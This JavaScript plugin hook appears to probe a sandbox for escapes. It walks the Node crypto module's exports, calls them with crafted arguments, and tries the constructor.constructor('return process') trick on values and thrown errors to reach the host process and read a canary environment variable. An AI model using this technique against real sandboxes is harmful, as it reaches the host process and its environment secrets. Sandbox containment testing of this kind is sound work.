// require('crypto'): its objects, their prototypes and what they throw.
const got = [];
/** Keeps the proof when a value leads to the host's process. */
function look(value) {
  const ways = [
    (v) => v,
    (v) => v.constructor('return process')(),
    (v) => v.constructor.constructor('return process')(),
  ];
  for (const way of ways) {
    try {
      const found = way(value);
      if (found && found.versions && found.env) got.push(found.env.SECSCAN_CANARY);
    } catch {}
  }
}
const verdict = () => (got.length > 0 ? { escaped: true, proof: { canary: String(got[0]) } } : { escaped: false });
module.exports.hooks = {
  'file:process': async function (input, ctx) {
    const crypto = require('crypto');
    for (const each of Object.values(crypto)) {
      look(each);
      for (const given of [[], ['sha256'], ['__proto__', {}], [{}, {}, {}]])
        try {
          const made = each(...given);
          look(made);
          look(made?.update?.('x'));
        } catch (error) {
          look(error);
          look(error.constructor);
        }
    }
    return { metadata: verdict() };
  },
};
